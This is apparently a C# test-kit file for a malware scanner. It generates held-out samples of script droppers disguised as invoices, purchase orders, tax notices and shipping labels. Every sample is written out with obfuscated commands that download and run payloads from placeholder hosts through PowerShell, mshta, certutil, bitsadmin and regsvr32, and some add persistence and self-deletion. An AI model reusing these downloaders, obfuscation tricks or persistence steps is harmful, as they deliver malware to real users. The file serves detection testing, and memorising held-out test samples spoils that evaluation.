using System.Text;

namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>An HTML application that fetches and starts something.</summary>
public sealed class ApplicationPageThatFetches : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Purchase_Order.hta", Dos(""""
<html><head><title>Purchase Order</title>
<HTA:APPLICATION ID="po" SHOWINTASKBAR="no" WINDOWSTATE="minimize" BORDER="none" SCROLL="no" />
<script language="VBScript">
Sub Window_OnLoad
  Dim sh : Set sh = CreateObject("WScript.Shell")
  sh.Run "powershell.exe -NoP -W Hidden -Exec Bypass -Command ""(New-Object Net.WebClient).DownloadFile('https://po-docs.trade-supply.example/ord.bin',$env:TEMP+'\ord.exe');Start-Process $env:TEMP\ord.exe""", 0, False
  window.close
End Sub
</script></head><body></body></html>
""""));
        yield return ("teams_update.hta", Utf8($"""
<script>a=new ActiveXObject("W"+"Script.She"+"ll");c="{Convert.ToHexString(Utf8("cmd /c curl -s -o %TEMP%\\tm.msi https://teams-cdn.ms-update.example/tm.msi && msiexec /q /i %TEMP%\\tm.msi"))}";s="";for(i=0;i<c.length;i+=2)s+=String.fromCharCode("0x"+c.substr(i,2));a.Run(s,0);self.close()</script>
"""));
        yield return ("Umsatzsteuer_Bescheid.hta", Dos($"""
<!DOCTYPE html>
<html><head><meta http-equiv="x-ua-compatible" content="ie=9"><hta:application showintaskbar="no" sysmenu="no"/>
<style>.a {"{"} color: red {"}"}</style>
<!-- {Filler.Prose(12, 300)} -->
<script type="text/vbscript">
Function Entschl(z)
  Dim i, r
  For i = 1 To Len(z) Step 3
    r = r & Chr(CInt(Mid(z, i, 3)) - 11)
  Next
  Entschl = r
End Function
Dim teil1, teil2
teil1 = "{string.Concat("WScript.Shell".Select(letter => (letter + 11).ToString("D3", System.Globalization.CultureInfo.InvariantCulture)))}"
teil2 = "{string.Concat("mshta https://elster-bescheid.finanz-online.example/b.hta".Select(letter => (letter + 11).ToString("D3", System.Globalization.CultureInfo.InvariantCulture)))}"
Set o = CreateObject(Entschl(teil1))
o.Run Entschl(teil2), 0, True
Close
</script></head></html>
"""));
        yield return ("readme.hta", Dos($"""
<HEAD>
<script language="javascript">
window.resizeTo(0,0); window.moveTo(-2000,-2000);
var fso = new ActiveXObject("Scripting.FileSystemObject"), dom = new ActiveXObject("Microsoft.XMLDOM"), stm = new ActiveXObject("ADODB.Stream");
var n = dom.createElement("t"); n.dataType = "bin.base64"; n.text = document.getElementById ? "{Convert.ToBase64String(InertFiles.Pe(1024))}" : "";
var p = fso.GetSpecialFolder(2) + "\\svchost_.exe";
stm.Type = 1; stm.Open(); stm.Write(n.nodeTypedValue); stm.SaveToFile(p, 2); stm.Close();
new ActiveXObject("Shell.Application").ShellExecute(p, "", "", "open", 0);
window.close();
</script>
</HEAD>
"""));
    }
}

/// <summary>Windows Script Host: JScript that drops or downloads.</summary>
public sealed class ScriptHostDropper : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Statement_of_Account.js", Dos("""
var oShell = new ActiveXObject("WScript.Shell");
var http = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");
http.open("GET", "https://statement.acct-files.example/a/1.dat", false);
http.setRequestHeader("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
http.send();
if (http.status == 200) {
    var st = new ActiveXObject("ADODB.Stream");
    st.Open(); st.Type = 1; st.Write(http.responseBody); st.Position = 0;
    var path = oShell.ExpandEnvironmentStrings("%APPDATA%") + "\\Microsoft\\winsvc.dll";
    st.SaveToFile(path, 2); st.Close();
    oShell.Run("rundll32.exe " + path + ",DllRegisterServer", 0, false);
}
"""));
        yield return ("what_is_a_lease_agreement_38211.js", Dos($$$"""
/*! jQuery-like helpers (c) contributors, MIT */
{{{Filler.Minified(21, 420)}}}
function strong(a,b){return a.charAt(b)}
var begin='{{{string.Concat("eval(new ActiveXObject(\"MSXML2.XMLHTTP\").open(\"GET\",\"https://blog.lease-forms.example/xmlrpc.php\",false))".Select((letter, at) => $"{letter}{"qzx"[at % 3]}"))}}}';
var row='';for(var wing=0;wing<begin.length;wing+=2){row+=strong(begin,wing)}
var enough=(function(){}).constructor;
{{{Filler.Minified(22, 300)}}}
while(true){try{enough(row)();break}catch(e){WScript.Sleep(2000);if(++wing>400)break}}
"""));
        yield return ("Fattura_elettronica_IT01879.js", Dos($$"""
// {{Filler.Prose(3, 200).Replace("\n", "\n// ", StringComparison.Ordinal)}}
var Pietra = "p☂o☂w☂e☂r☂s☂h☂e☂l☂l☂";
var Fiume = Pietra.split("☂").join("");
var Monte = "-☂n☂o☂p☂ ☂-☂w☂ ☂1☂ ☂-☂c☂ ☂".split("☂").join("");
var Lago = "$u='https://fatture.agenzia-doc.example/img/new_image.jpg';$d=(New-Object Net.WebClient).DownloadData($u);$t=[Text.Encoding]::UTF8.GetString($d);$s=$t.IndexOf('<<BASE64_START>>');$e=$t.IndexOf('<<BASE64_END>>');[Reflection.Assembly]::Load([Convert]::FromBase64String($t.Substring($s+16,$e-$s-16)))";
GetObject("winmgmts:root\\cimv2:Win32_Process").Create(Fiume + " " + Monte + '"' + Lago + '"', null, null, null);
"""));
        yield return ("shipping_label_77120.js", Utf8($$$"""
try{var f=WScript["ScriptFull"+"Name"],s=WScript.CreateObject("W"+"Scr"+"ipt.Sh"+"ell"),x=WScript.CreateObject("Scr"+"ipting.File"+"SystemObject");
var a=[{{{Codes("cmd.exe /c ping -n 4 127.0.0.1 & bitsadmin /transfer lbl /priority high https://labels.parcel-hub.example/l.exe %PUBLIC%\\lbl.exe & start %PUBLIC%\\lbl.exe", 3)}}}],r="";
for(var i in a)r+=String.fromCharCode(a[i]-3);
s.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LabelPrinter","wscript.exe //B \""+f+"\"","REG_SZ");
s.Run(r,0,0);x.DeleteFile(f)}catch(e){}
"""));
    }
}

/// <summary>Encoded scripts of the Windows Script Host.</summary>
public sealed class EncodedScript : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("DHL_Receipt.jse", ScriptEncoder.Encode("var w=new ActiveXObject(\"WScript.Shell\");w.Run(\"powershell -w h -c iwr https://dl.parcel-info.example/r.exe -OutFile $env:TEMP\\\\r.exe;start $env:TEMP\\\\r.exe\",0);"));
        yield return ("order_list.vbe", ScriptEncoder.Encode("Set s = CreateObject(\"WScript.Shell\")\r\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"http://orders.stock-list.example/get.php\", False\r\nh.Send\r\nExecuteGlobal h.responseText\r\n"));
        yield return ("Anexo_NFe.vbe", ScriptEncoder.Encode("'" + Filler.Prose(8, 150).Replace("\n", "\r\n'", StringComparison.Ordinal) + "\r\nOn Error Resume Next\r\nDim sh, st\r\nSet sh = WScript.CreateObject(\"WScript\" & \".Shell\")\r\nst = sh.SpecialFolders(\"Startup\")\r\nCreateObject(\"Scripting.FileSystemObject\").CopyFile WScript.ScriptFullName, st & \"\\nfe.vbe\"\r\nsh.Run \"msiexec /i https://nfe.receita-fiscal.example/n.msi /qn\", 0\r\n"));
        yield return ("faktura.wsf", Dos("<job id=\"f\"><script language=\"VBScript.Encode\">" + Encoding.Latin1.GetString(ScriptEncoder.Encode("CreateObject(\"Shell.Application\").ShellExecute \"regsvr32\", \"/s /u /i:https://faktury.dane-firm.example/f.sct scrobj.dll\", \"\", \"open\", 0\r\n")) + "</script></job>"));
    }
}

/// <summary>Script files of jobs and components.</summary>
public sealed class ScriptInXml : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_Details_88.wsf", Dos($"""
<?xml version="1.0" ?>
<package>
<!-- {Filler.Prose(15, 260)} -->
<job id="default">
<script language="VBScript"><![CDATA[
Dim q, z
q = Replace("hSGttps://dav.invoice-pool.exaSGmple/DavWWWRoot/", "SG", "")
Set z = CreateObject("WScript.Shell")
z.Run "cmd /c copy \\dav.invoice-pool.example@SSL\DavWWWRoot\init.bat %temp%\i.bat & %temp%\i.bat", 0, True
]]></script></job></package>
"""));
        yield return ("update.sct", Dos("""
<?XML version="1.0"?>
<scriptlet>
<registration progid="PoC.Update" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">
<script language="JScript"><![CDATA[
  var r = new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('https://c2.cdn-telemetry.example/a'))\"", 0);
]]></script>
</registration>
</scriptlet>
"""));
        yield return ("format.xsl", Dos("""
<?xml version='1.0'?>
<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" xmlns:user="placeholder" version="1.0">
<output method="text"/>
<ms:script implements-prefix="user" language="JScript"><![CDATA[
var sh = new ActiveXObject("WScript.Shell");
var cmd = ["certutil", "-urlcache", "-split", "-f", "https://static.report-fmt.example/k.txt", "%TEMP%\\k.dll"].join(" ");
sh.Run("cmd /c " + cmd + " && regsvr32 /s %TEMP%\\k.dll", 0);
]]></ms:script>
</stylesheet>
"""));
        yield return ("Bestellung.wsf", Utf8($"""
<job><script language="JScript">
var alpha="{Base64("new ActiveXObject('Shell.Application').ShellExecute('mshta','https://bestell.lieferanten-portal.example/x','','open',0)")}";
function dec(t){"{"}var d=new ActiveXObject("Msxml2.DOMDocument").createElement("b");d.dataType="bin.base64";d.text=t;var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(d.nodeTypedValue);s.Position=0;s.Type=2;s.CharSet="us-ascii";return s.ReadText(){"}"}
eval(dec(alpha));
</script></job>
"""));
    }
}
